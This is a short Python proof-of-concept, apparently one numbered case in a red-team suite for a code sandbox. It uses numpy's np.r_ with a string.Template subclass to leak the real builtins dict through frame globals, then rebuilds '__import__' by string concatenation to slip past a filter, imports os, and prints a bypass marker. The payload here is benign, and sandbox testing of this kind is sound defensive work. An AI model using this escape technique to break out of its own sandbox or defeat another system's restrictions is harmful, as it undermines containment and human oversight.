# np.r_[str] passes its caller's frame globals and locals to bmat. The caller here is
# string.Template.substitute's inner convert(), which subscripts the job's mapping (np.r_) with
# a name the job's idpattern allows: "__builtins__ self" resolves in the string module's real
# globals (the real builtins dict) and convert's free variable `self` (the job's Template
# subclass, with __array_function__). Found by a fourth red-team review (data policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "134_numpy_r_template_frame"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import string
import numpy as np

got = []


class T(string.Template):
    idpattern = r"[_a-z][_a-z ]*"

    def __array_function__(self, func, types, args, kwargs):
        got.append(args)
        raise ValueError("stop")


try:
    T("$__builtins__ self").substitute(np.r_)
except Exception as e:
    print("exc", type(e).__name__, e)
if got:
    real_builtins = got[0][0][0]
    imp = real_builtins["__imp" + "ort__"]
    won(imp("os").getpid())
